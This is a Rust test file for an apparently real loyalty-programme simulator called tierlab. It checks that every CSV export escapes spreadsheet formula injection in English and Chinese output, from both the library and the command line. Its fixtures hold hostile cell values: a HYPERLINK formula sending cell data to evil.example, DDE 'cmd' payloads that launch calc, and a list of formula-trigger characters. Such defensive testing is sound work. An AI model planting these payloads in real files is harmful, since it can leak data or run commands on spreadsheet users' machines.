//! Every exported CSV is safe to open in a spreadsheet. A programme whose scenario, tiers,
//! segments, campaign and rewards are named like formulas (`=HYPERLINK(…)`, `+cmd|…`,
//! `-2+3+cmd|…`, `@SUM(…)`, or starting with a tab, a carriage return or a line feed; with
//! quotes, commas and line breaks inside) comes out of the monthly rows and of every study
//! (comparison, replications, sweep, tornado, goal-seek, liability ceiling, ladder designer)
//! and the fit, for scripts and for a planner in English and Chinese, from the library and
//! from the command line, with every such text behind a leading apostrophe; the figures,
//! negative ones too, stay numbers a spreadsheet can add up.
//!
//! The files are read back with a CSV parser (quotes, doubled quotes and line breaks inside
//! quotes), and every cell is judged on its own.

use std::process::Command;

use tierlab::export::{monthly_csv, monthly_csv_in};
use tierlab::fit::{dates::Date, fit, FitOptions};
use tierlab::metrics::simulate;
use tierlab::scenario::{campaign_presets, parse, Scenario, Wording};
use tierlab::study::{
    compare, design, replicate, replicate_comparison, seek_liability_ceiling, seek_thresholds,
    sweep, tier_names, tornado, LadderDesign, PointsLever, Progression,
};
use tierlab::words::Lang;

const SCENARIO_NAME: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
const TIER_NAMES: [&str; 3] = [
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];
const SEGMENT_NAME: &str = "\t=1+1";
const CAMPAIGN_NAME: &str = "=1+1\n\"quoted\", on two lines";
const REWARD_NAMES: [&str; 2] = ["\r=cmd|' /C calc'!A0", "\n@SUM(1)"];

/// The characters that make a spreadsheet run a cell as a formula.
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];

/// The default programme, small enough to run at once, with every name hostile.
fn hostile() -> Scenario {
    let mut scenario = Scenario::default();
    scenario.population.starting_members = 200;
    scenario.population.new_members_per_month = 20.0;
    scenario.horizon.months = 6;
    scenario.name = SCENARIO_NAME.into();
    for (tier, name) in scenario.tiers.levels.iter_mut().zip(TIER_NAMES) {
        tier.name = name.into();
    }
    for (i, segment) in scenario.population.segments.iter_mut().enumerate() {
        segment.name = format!("{SEGMENT_NAME} {i}");
    }
    for (reward, name) in scenario.points.rewards.iter_mut().zip(REWARD_NAMES) {
        reward.name = name.into();
    }
    let mut campaign = campaign_presets().remove(0);
    campaign.name = CAMPAIGN_NAME.into();
    scenario.campaigns = vec![campaign];
    // Read back as a planner's file is, so the names are ones validation lets through.
    let json = serde_json::to_string(&scenario).unwrap_or_default();
    parse(&json).unwrap_or_else(|problems| panic!("the hostile scenario is valid: {problems:?}"))
}

/// The same programme earning half the points: its points KPIs fall below A's.
fn fewer_points(a: &Scenario) -> Scenario {
    let mut b = a.clone();
    b.points.per_currency_unit *= 0.5;
    b
}

/// The CSV's lines and cells (RFC 4180: quoted fields may hold commas, doubled quotes and
/// line breaks).
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    assert!(!quoted, "a quote is left open");
    assert!(
        cell.is_empty() && row.is_empty(),
        "the last line has no line break"
    );
    rows
}

/// A figure as Rust writes one: an optional minus, digits, an optional fraction.
fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole
            .chars()
            .chain(fraction.chars())
            .all(|c| c.is_ascii_digit())
}

/// The table of one export, after checking that every line has the header's cells and that
/// no cell a spreadsheet would run is anything but a number.
fn safe_table(what: &str, csv: &str) -> Vec<Vec<String>> {
    let rows = read_csv(csv);
    let width = rows.first().map_or(0, Vec::len);
    assert!(
        width > 0 && rows.len() > 1,
        "{what}: a header and lines\n{csv}"
    );
    for (line, row) in rows.iter().enumerate() {
        assert_eq!(row.len(), width, "{what}, line {line}: {row:?}");
        for cell in row {
            assert!(
                !cell.starts_with(FORMULA_STARTS) || is_number(cell),
                "{what}, line {line}: a spreadsheet would run {cell:?}"
            );
        }
    }
    rows
}

fn has_cell(rows: &[Vec<String>], wanted: &str) -> bool {
    rows.iter().flatten().any(|cell| cell == wanted)
}

/// The number cells of the column headed `header`.
fn numbers_in(rows: &[Vec<String>], header: &str) -> Vec<f64> {
    let column = rows[0].iter().position(|h| h == header);
    let column = column.unwrap_or_else(|| panic!("no column {header} in {:?}", rows[0]));
    rows[1..]
        .iter()
        .filter(|row| is_number(&row[column]))
        .filter_map(|row| row[column].parse().ok())
        .collect()
}

#[test]
fn the_monthly_rows_keep_hostile_tier_names_as_text_in_every_language() {
    let results = simulate(&hostile());
    for (what, csv) in [
        ("monthly rows for scripts", monthly_csv(&results)),
        (
            "monthly rows in English",
            monthly_csv_in(&results, Lang::En),
        ),
        (
            "monthly rows in Chinese",
            monthly_csv_in(&results, Lang::ZhCn),
        ),
    ] {
        let rows = safe_table(what, &csv);
        assert_eq!(rows.len(), 1 + 6, "{what}: a line per month");
        for tier in TIER_NAMES {
            assert!(
                rows[0].iter().any(|h| h.ends_with(tier)),
                "{what}: a column for {tier}"
            );
        }
        assert!(rows[1..].iter().all(|row| is_number(&row[0])), "{what}");
    }
    let zh = read_csv(&monthly_csv_in(&results, Lang::ZhCn));
    assert!(
        has_cell(&zh, &format!("等级：{}", TIER_NAMES[1])),
        "{:?}",
        zh[0]
    );
}

#[test]
fn a_comparison_shows_a_scenario_named_like_a_formula_as_text_and_its_differences_as_numbers() {
    let a = hostile();
    let comparison = compare(&[a.clone(), fewer_points(&a)]);
    let tiers = tier_names(&a);
    let guarded_name = format!("'{SCENARIO_NAME}");
    for (what, csv, difference) in [
        (
            "comparison for scripts",
            comparison.to_csv(),
            "difference_from_A",
        ),
        (
            "comparison in English",
            comparison.to_csv_in(Lang::En, &tiers),
            "Difference from A",
        ),
        (
            "comparison in Chinese",
            comparison.to_csv_in(Lang::ZhCn, &tiers),
            "与 A 的差异",
        ),
    ] {
        let rows = safe_table(what, &csv);
        assert!(has_cell(&rows, &guarded_name), "{what}: {csv}");
        let differences = numbers_in(&rows, difference);
        assert!(
            differences.iter().any(|d| *d < 0.0),
            "{what}: half the points give negative differences, still numbers: {differences:?}"
        );
    }
    let zh = read_csv(&comparison.to_csv_in(Lang::ZhCn, &tiers));
    let share = format!("'{} 占比", TIER_NAMES[2]);
    assert!(
        has_cell(&zh, &share),
        "the KPI named after a tier leads with its name"
    );
}

#[test]
fn replications_keep_hostile_names_as_text() {
    let a = hostile();
    let tiers = tier_names(&a);
    let replicated = replicate_comparison(&[a.clone(), fewer_points(&a)], 3);
    let guarded_name = format!("'{SCENARIO_NAME}");
    for (what, csv, mean) in [
        (
            "replicated comparison for scripts",
            replicated.to_csv(),
            "mean",
        ),
        (
            "replicated comparison in English",
            replicated.to_csv_in(Lang::En, &tiers),
            "Mean",
        ),
        (
            "replicated comparison in Chinese",
            replicated.to_csv_in(Lang::ZhCn, &tiers),
            "均值",
        ),
    ] {
        let rows = safe_table(what, &csv);
        assert!(has_cell(&rows, &guarded_name), "{what}");
        let means = numbers_in(&rows, mean);
        assert!(means.iter().any(|m| *m < 0.0), "{what}: {means:?}");
    }
    safe_table("replications of one scenario", &replicate(&a, 3).to_csv());
}

#[test]
fn a_sweep_and_a_tornado_keep_hostile_names_and_problems_as_text() {
    let scenario = hostile();
    let tiers = tier_names(&scenario);
    let gold = "tiers.levels[2].threshold";
    // From 50, Gold sits under Silver's 100: those steps carry problems.
    let swept = sweep(&scenario, gold, 50.0, 400.0, 3, Wording::PLAIN);
    let swept = swept.unwrap_or_else(|p| panic!("{p}"));
    let bars = tornado(&scenario, "share_in_tier_2", 0.2, Wording::PLAIN);
    let bars = bars.unwrap_or_else(|p| panic!("{p}"));
    for (what, csv) in [
        ("sweep for scripts", swept.to_csv()),
        ("sweep in English", swept.to_csv_in(Lang::En, &tiers)),
        ("sweep in Chinese", swept.to_csv_in(Lang::ZhCn, &tiers)),
        ("tornado for scripts", bars.to_csv()),
        ("tornado in English", bars.to_csv_in(Lang::En, &tiers)),
        ("tornado in Chinese", bars.to_csv_in(Lang::ZhCn, &tiers)),
    ] {
        safe_table(what, &csv);
    }
    let zh = read_csv(&swept.to_csv_in(Lang::ZhCn, &tiers));
    let share = format!("{} 占比 (share_in_tier_2)", TIER_NAMES[2]);
    assert!(has_cell(&zh, &format!("'{share}")), "{:?}", zh[0]);
    let zh = read_csv(&bars.to_csv_in(Lang::ZhCn, &tiers));
    assert!(has_cell(&zh, &format!("'{} 占比", TIER_NAMES[2])));
}

#[test]
fn goal_seek_the_ceiling_and_the_ladder_keep_hostile_tier_names_as_text() {
    let scenario = hostile();
    let tiers = tier_names(&scenario);
    let seek = seek_thresholds(&scenario, 5, &[0.6, 0.3, 0.1], Wording::PLAIN);
    let seek = seek.unwrap_or_else(|p| panic!("{p}"));
    let ceiling = seek_liability_ceiling(&scenario, PointsLever::EarnRate, 1e9, Wording::PLAIN);
    let ceiling = ceiling.unwrap_or_else(|p| panic!("{p}"));
    let plan = LadderDesign {
        years_to_top: 2.0,
        daily_growth_cap: 20.0,
        tiers: 3,
        progression: Progression::Exponential { ratio: 2.0 },
    };
    let ladder = design(&plan, Wording::PLAIN).unwrap_or_else(|p| panic!("{p}"));
    for (what, csv) in [
        ("goal-seek for scripts", seek.to_csv()),
        ("goal-seek in English", seek.to_csv_in(Lang::En, &tiers)),
        ("goal-seek in Chinese", seek.to_csv_in(Lang::ZhCn, &tiers)),
        ("liability ceiling for scripts", ceiling.to_csv()),
        ("liability ceiling in English", ceiling.to_csv_in(Lang::En)),
        (
            "liability ceiling in Chinese",
            ceiling.to_csv_in(Lang::ZhCn),
        ),
        ("ladder for scripts", ladder.to_csv()),
        ("ladder in English", ladder.to_csv_in(Lang::En)),
        ("ladder in Chinese", ladder.to_csv_in(Lang::ZhCn)),
    ] {
        safe_table(what, &csv);
    }
    let en = read_csv(&seek.to_csv_in(Lang::En, &tiers));
    for tier in TIER_NAMES {
        assert!(has_cell(&en, &format!("'{tier}")), "{tier} in {en:?}");
    }
}

#[test]
fn the_fit_s_parameters_are_a_safe_table_of_numbers() {
    // Four hostile names among the ten customers a fit needs at least.
    let hostile = ["=cmd|' /C calc'!A0", "+1", "@x", "-y"].map(String::from);
    let customers = hostile.into_iter().chain((5..=10).map(|i| format!("c{i}")));
    let mut text = String::from("customer,date,amount\n");
    for (i, customer) in customers.enumerate() {
        for month in 1..=(i % 6 + 2) {
            let day = 10 + i;
            text += &format!("\"{customer}\",2024-{month:02}-{day},{}\n", 10 + i * month);
        }
    }
    let options = FitOptions {
        cutoff: Date::parse("2024-12-31").ok(),
        ..FitOptions::default()
    };
    let report = fit(&text, &options).unwrap_or_else(|e| panic!("{e}"));
    let rows = safe_table("fit", &report.parameters_csv());
    assert!(
        numbers_in(&rows, "value").iter().any(|v| *v < 0.0),
        "the log-likelihood"
    );
}

/// `tierlab ARGS…`'s standard output, which must succeed.
fn tierlab(args: &[&str]) -> String {
    let out = Command::new(env!("CARGO_BIN_EXE_tierlab"))
        .args(args)
        .output();
    let out = out.unwrap_or_else(|e| panic!("tierlab {args:?}: {e}"));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "tierlab {args:?}: {stderr}");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn the_command_line_s_csv_keeps_hostile_names_as_text() {
    let a = hostile();
    let dir = std::env::temp_dir().join(format!("tierlab-csv-injection-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{dir:?}: {e}"));
    let write = |name: &str, scenario: &Scenario| {
        let path = dir.join(name);
        let json = serde_json::to_string(scenario).unwrap_or_default();
        std::fs::write(&path, json).unwrap_or_else(|e| panic!("{path:?}: {e}"));
        path.to_string_lossy().into_owned()
    };
    let (a_path, b_path) = (write("a.json", &a), write("b.json", &fewer_points(&a)));
    let guarded_name = format!("'{SCENARIO_NAME}");
    let run = tierlab(&["run", &a_path, "--format", "csv"]);
    safe_table("tierlab run", &run);
    for args in [
        vec!["compare", &a_path, &b_path, "--format", "csv"],
        vec![
            "compare", &a_path, &b_path, "--runs", "2", "--format", "csv",
        ],
    ] {
        let rows = safe_table("tierlab compare", &tierlab(&args));
        assert!(has_cell(&rows, &guarded_name), "{args:?}");
    }
    let sweep_args = ["--param", "tiers.levels[2].threshold", "--from", "50"];
    let swept = tierlab(
        &[
            &["sweep", &a_path][..],
            &sweep_args,
            &["--to", "400", "--steps", "2"],
            &["--format", "csv"],
        ]
        .concat(),
    );
    safe_table("tierlab sweep", &swept);
    safe_table(
        "tierlab replicate",
        &tierlab(&["replicate", &a_path, "--runs", "2", "--format", "csv"]),
    );
}
